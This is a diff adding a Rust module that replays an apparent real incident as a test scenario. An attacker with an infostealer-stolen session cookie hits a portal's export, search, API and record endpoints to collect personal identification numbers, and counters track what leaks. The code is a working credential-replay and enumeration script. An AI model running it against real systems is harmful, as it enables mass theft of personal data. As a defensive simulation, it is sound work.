@@ -1,0 +1,135 @@
+//! Kairos, July 2025, played again: one training organisation's account, its password stolen by an
+//! infostealer, reads everybody it can. Over real HTTP, through the front door.
+
+use std::collections::HashSet;
+use std::net::SocketAddr;
+use std::sync::Mutex;
+use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
+use std::time::Duration;
+
+use bytes::Bytes;
+use http::{Request, StatusCode};
+use http_body_util::{BodyExt as _, Full};
+use hyper_util::client::legacy::Client;
+use hyper_util::client::legacy::connect::HttpConnector;
+use hyper_util::rt::TokioExecutor;
+
+use crate::population::Population;
+
+/// What the thief has so far; shared with whoever watches.
+#[derive(Default)]
+pub struct Loot {
+    pub requests: AtomicU64,
+    pub refused: AtomicU64,
+    /// Distinct persons the thief asked for.
+    pub asked: AtomicU64,
+    pub is_over: AtomicBool,
+    persons: Mutex<HashSet<String>>,
+}
+
+impl Loot {
+    /// Distinct persons whose number reached the thief.
+    pub fn shown(&self) -> u64 {
+        self.persons.lock().map_or(0, |persons| persons.len() as u64)
+    }
+
+    /// Whatever looks like a person's number in what came back; the thief knows what to look for.
+    fn take(&self, body: &[u8]) {
+        let text = String::from_utf8_lossy(body);
+        let Ok(mut persons) = self.persons.lock() else { return };
+        let is_number = |word: &&str| {
+            word.len() == 8 && word.is_ascii() && word[..7].bytes().all(|b| b.is_ascii_digit())
+        };
+        let words = text.split(|c: char| !c.is_ascii_alphanumeric());
+        persons.extend(words.filter(is_number).map(ToOwned::to_owned));
+    }
+}
+
+/// The thief's means: an address, the portal's host, a stolen cookie.
+pub struct Thief {
+    pub address: SocketAddr,
+    pub host: String,
+    pub cookie: String,
+    /// Between two requests.
+    pub pace: Duration,
+}
+
+/// The thief could not even connect.
+#[derive(Debug, thiserror::Error)]
+pub enum AttackError {
+    #[error("the portal cannot be reached")]
+    Unreachable(#[from] hyper_util::client::legacy::Error),
+    #[error("the answer was cut")]
+    Cut(#[from] hyper::Error),
+    #[error("the request is not well formed")]
+    Request(#[from] http::Error),
+}
+
+/// Lists, exports, then record by record through exact search; at most `requests_max` requests.
+pub async fn kairos(
+    thief: &Thief,
+    population: &Population,
+    requests_max: u64,
+    loot: &Loot,
+) -> Result<(), AttackError> {
+    let client = Client::builder(TokioExecutor::new()).build(HttpConnector::new());
+    let result = read_all(thief, &client, population, requests_max, loot).await;
+    loot.is_over.store(true, Ordering::SeqCst);
+    result
+}
+
+async fn read_all(
+    thief: &Thief,
+    client: &Client<HttpConnector, Full<Bytes>>,
+    population: &Population,
+    requests_max: u64,
+    loot: &Loot,
+) -> Result<(), AttackError> {
+    let everybody = ["/", "/export.csv?portee=tous", "/export.xlsx?portee=tous"];
+    for target in everybody {
+        ask(thief, client, target, loot).await?;
+    }
+    loot.asked.store(population.persons.len() as u64, Ordering::Relaxed);
+    for page in 0..20 {
+        ask(thief, client, &format!("/recherche?nom=a&page={page}"), loot).await?;
+        ask(thief, client, &format!("/api/personnes?nom=e&page={page}"), loot).await?;
+    }
+    for person in &population.persons {
+        if loot.requests.load(Ordering::Relaxed) + 2 > requests_max {
+            break;
+        }
+        let number = &person.number;
+        let status = ask(thief, client, &format!("/recherche?numero={number}"), loot).await?;
+        if status == StatusCode::OK {
+            ask(thief, client, &format!("/fiche/{number}"), loot).await?;
+        }
+    }
+    Ok(())
+}
+
+async fn ask(
+    thief: &Thief,
+    client: &Client<HttpConnector, Full<Bytes>>,
+    target: &str,
+    loot: &Loot,
+) -> Result<StatusCode, AttackError> {
+    let request = Request::builder()
+        .uri(format!("http://{}{target}", thief.address))
+        .header("host", &thief.host)
+        .header("cookie", format!("__Host-digue={}", thief.cookie))
+        .header("user-agent", "python-requests/2.32")
+        .body(Full::default())?;
+    let response = client.request(request).await?;
+    let status = response.status();
+    let body = response.into_body().collect().await?.to_bytes();
+    loot.requests.fetch_add(1, Ordering::Relaxed);
+    if status.is_success() {
+        loot.take(&body);
+    } else {
+        loot.refused.fetch_add(1, Ordering::Relaxed);
+    }
+    if !thief.pace.is_zero() {
+        tokio::time::sleep(thief.pace).await;
+    }
+    Ok(status)
+}
